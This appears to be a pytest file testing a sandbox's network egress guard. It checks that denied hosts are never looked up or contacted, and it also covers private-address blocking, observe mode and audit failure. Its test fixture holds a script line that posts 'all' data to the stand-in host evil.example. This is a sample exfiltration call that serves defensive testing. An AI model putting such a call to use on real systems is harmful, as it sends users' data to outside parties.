"""A refused request leaves nothing behind outside: no name is looked up, and nothing connects."""

from __future__ import annotations

import json

import pytest

from policies.permissions import Decision, PermissionSet
from sandbox_host.egress import NetworkEgress, resolving

PUBLIC = "127.0.0.2"
CALL = "return Http.post(request.body.url, { all: 'data' }, { timeout: 5000 }).status;"


class Resolver:
    """Answers every name with the listener's address, and keeps what it was asked."""

    def __init__(self, address: str = PUBLIC) -> None:
        self.asked: list[str] = []
        self._address = address

    def __call__(self, host: str, port: int) -> list[str]:
        self.asked.append(host)
        return [self._address]


@pytest.fixture
def public_loopback(monkeypatch):
    """127.0.0.2 passes the check of addresses: it stands for a public address."""
    real = resolving.denied_network
    monkeypatch.setattr(
        resolving, "denied_network", lambda address: None if str(address) == PUBLIC else real(address)
    )


@pytest.fixture
def attack(connector, listener):
    """`attack(granted patterns…)`: post to the listener by a host name; the report and the resolver."""

    def go(*http: str, resolver: Resolver | None = None):
        resolver = resolver or Resolver()
        patterns = [pattern.replace("PORT", str(listener.port)) for pattern in http]
        run = connector({"run": CALL}, NetworkEgress(resolver), permissions={"http": patterns})
        return run("run", {"url": f"https://evil.example:{listener.port}/x"}), resolver

    return go


def test_a_host_that_is_not_granted_is_neither_looked_up_nor_connected_to(attack, listener, public_loopback):
    report, resolver = attack("https://api.acme.example/*")
    assert report.error is not None and report.error.name == "PermissionDenied"
    assert [(call.decision, call.rule) for call in report.calls] == [("deny", "unknown_host")]
    assert (resolver.asked, listener.connections) == ([], 0)


def test_a_port_that_is_not_granted_is_not_connected_to(attack, listener, public_loopback):
    report, resolver = attack("https://evil.example/*")
    assert report.error is not None and report.error.name == "PermissionDenied"
    assert (resolver.asked, listener.connections) == ([], 0)


def test_a_granted_host_is_looked_up_and_connected_to(attack, listener, public_loopback):
    report, resolver = attack("https://evil.example:PORT/*")
    assert report.error is not None and report.error.name == "EgressBlocked"
    assert (resolver.asked, listener.connections) == (["evil.example"], 1)


def test_without_the_guard_the_attack_reaches_the_listener(attack, listener, public_loopback, monkeypatch):
    monkeypatch.setattr(
        PermissionSet, "decide", lambda self, call: Decision(True, "always", "the guard is gone")
    )
    _, resolver = attack("https://api.acme.example/*")
    assert (resolver.asked, listener.connections) == (["evil.example"], 1)


def test_a_granted_host_that_leads_to_a_private_address_is_not_connected_to(attack, listener):
    report, resolver = attack("https://evil.example:PORT/*")
    assert report.error is not None and report.error.name == "EgressBlocked"
    assert (resolver.asked, listener.connections) == (["evil.example"], 0)


def test_an_observed_write_is_neither_looked_up_nor_connected_to(connector, listener, public_loopback):
    resolver = Resolver()
    permissions = {"http": [f"https://evil.example:{listener.port}/*"]}
    run = connector({"run": CALL}, NetworkEgress(resolver), permissions=permissions)
    report = run("run", {"url": f"https://evil.example:{listener.port}/x"}, mode="observe")
    assert report.response is not None and report.response.body == 202
    assert [(write.kind, write.committed) for write in report.writes] == [("http", False)]
    assert (resolver.asked, listener.connections) == ([], 0)


def test_an_effect_that_cannot_be_recorded_does_not_happen(
    connector, listener, public_loopback, state, monkeypatch
):
    from sandbox_host.audit import AuditUnavailable

    def full(*given: object, **more: object) -> None:
        raise AuditUnavailable("the disk is full")

    resolver = Resolver()
    permissions = {"http": [f"https://evil.example:{listener.port}/*"]}
    run = connector({"run": CALL}, NetworkEgress(resolver), permissions=permissions)
    monkeypatch.setattr(state.audit, "commit_decisions", full)
    report = run("run", {"url": f"https://evil.example:{listener.port}/x"})
    assert report.error is not None and report.error.name == "AuditUnavailable"
    assert (resolver.asked, listener.connections) == ([], 0)
    assert json.loads(report.model_dump_json())["ok"] is False
